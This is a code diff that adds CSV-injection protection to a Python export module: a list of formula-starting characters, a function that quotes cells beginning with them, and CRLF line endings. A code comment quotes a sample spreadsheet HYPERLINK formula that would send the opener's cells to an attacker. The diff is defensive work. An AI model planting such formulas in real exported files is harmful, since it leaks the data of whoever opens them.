@@ -106,22 +106,38 @@ def _plain(value: object) -> object:
     return value if value is None or isinstance(value, int | float | bool) else str(value)
 
 
+# A spreadsheet reads a cell starting with one of these as a formula (or, for tab and carriage
+# return, strips them and reads what follows as one): `=HYPERLINK("http://…?"&A2)` in an offer's
+# title would send the opener's other cells to whoever wrote it.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """A text cell a spreadsheet shows as text: OWASP's rule for CSV injection, a single quote
+    before a cell that would start a formula. Only CSV cells go through it; JSON stays as written."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def _cell(value: object) -> str:
-    """A CSV cell: lists joined with '; ', nested values as JSON, nothing for null."""
+    """A CSV cell: lists joined with '; ', nested values as JSON, nothing for null; text made
+    spreadsheet-safe (numbers are written as numbers, a negative one is not a formula)."""
     value = _plain(value)
     if value is None:
         return ""
     if isinstance(value, bool):
         return "true" if value else "false"
+    if isinstance(value, int | float):
+        return str(value)
     if isinstance(value, list) and all(isinstance(v, str) for v in value):
-        return "; ".join(value)  # type: ignore[arg-type]
+        return spreadsheet_safe("; ".join(value))  # type: ignore[arg-type]
     if isinstance(value, list | dict):
         return json.dumps(value, ensure_ascii=False, sort_keys=True)
-    return str(value)
+    return spreadsheet_safe(str(value))
 
 
 def render(data: Dataset, format: str) -> bytes:
-    """The data set as CSV (a header row, then one row per record) or JSON."""
+    """The data set as CSV (a header row, then one row per record) or JSON. Every CSV the
+    facility writes (/exports/…, `facility export public`) is made here, cells by `_cell`."""
     if format == "json":
         return json.dumps({
             "dataset": data.name, "description": data.description,
@@ -129,7 +145,9 @@ def render(data: Dataset, format: str) -> bytes:
             "rows": [{c: _plain(row[c]) for c in data.columns} for row in data.rows],
         }, ensure_ascii=False, indent=2).encode("utf-8")
     buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\n")
+    # RFC 4180's CRLF: the writer then quotes every cell holding a CR or an LF (with "\n" it
+    # left a lone CR bare, which a spreadsheet reads as the start of a new row).
+    writer = csv.writer(buffer, lineterminator="\r\n")
     writer.writerow(data.columns)
     writer.writerows([_cell(row[c]) for c in data.columns] for row in data.rows)
     return buffer.getvalue().encode("utf-8")
